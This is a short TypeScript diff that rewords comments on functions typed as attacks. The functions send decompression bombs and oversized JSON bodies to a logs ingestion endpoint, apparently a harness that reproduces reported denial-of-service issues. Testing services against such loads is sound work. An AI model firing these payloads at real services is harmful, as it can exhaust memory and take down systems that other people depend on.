@@ -24,13 +24,13 @@ function inEveryProtocol(compressed: Uint8Array): readonly Post[] {
   ];
 }
 
-/** Issue 16, 1: 4 KB of gzip that inflate to 2 million empty items. */
+/** 4 KB of gzip that inflate to 2 million empty items. */
 export const emptyItems: Attack = async (target) => {
   const items = Buffer.alloc(messageBytes - 64, Buffer.of(0x12, 0));
   await postAll(target, repeat(15, inEveryProtocol(gzipSync(logsOf(items)))));
 };
 
-/** Issue 16, 1: 1.39 million empty objects of JSON. */
+/** 1.39 million empty objects of JSON. */
 export const emptyObjects: Attack = async (target) => {
   const objects = `${"{},".repeat(1_390_000)}{}`;
   const body = Buffer.from(`{"resourceLogs":[{"scopeLogs":[{"logRecords":[${objects}]}]}]}`);
@@ -39,7 +39,7 @@ export const emptyObjects: Attack = async (target) => {
   await postAll(target, repeat(5, posts));
 };
 
-/** Issue 16, 3: 250 calls at once of 37 KB of gzip, each of which inflates to 4 MiB. */
+/** 250 calls at once of 37 KB of gzip, each of which inflates to 4 MiB. */
 export const inflating: Attack = async (target) => {
   const text = Buffer.alloc(messageBytes, "a");
   text.set(Buffer.from(randomBytes(25_000).toString("base64")));
